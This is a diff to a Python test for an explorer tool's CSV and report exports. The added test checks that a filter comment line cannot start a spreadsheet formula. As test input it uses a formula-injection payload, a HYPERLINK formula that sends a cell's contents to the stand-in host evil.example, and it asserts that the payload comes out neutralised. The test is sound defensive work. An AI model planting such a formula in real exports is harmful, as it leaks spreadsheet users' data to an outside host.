@@ -284,6 +284,18 @@ def test_explorer_download_and_export(store: Path, tmp_path: Path) -> None:
     # The download the button shows is the neutralised one.
     explorer._export_clicked()
     assert not armed(parse(without_comments(link_text(explorer.export_status.value))))
+    # The "# filters ..." line names the chosen department: a spreadsheet splits that line
+    # at commas too, so no piece of it may start a formula, raw or not.
+    explorer.department.value = (FORMULAS[0],)
+    explorer.search.value = 'x,=HYPERLINK("http://evil.example/?"&A5)'
+    for name, output in outputs.items():
+        if name == "export_csv":  # no comment lines
+            continue
+        for raw in (False, True):
+            text = output(raw)
+            comments = text[: len(text) - len(without_comments(text))]
+            assert "x;=HYPERLINK('http://evil.example/?'&A5)" in comments, (name, comments)
+            assert not armed(parse(comments)), (name, armed(parse(comments)))
 
 
 # -- one report: figures.csv and the pages' Content-Security-Policy --------------------------
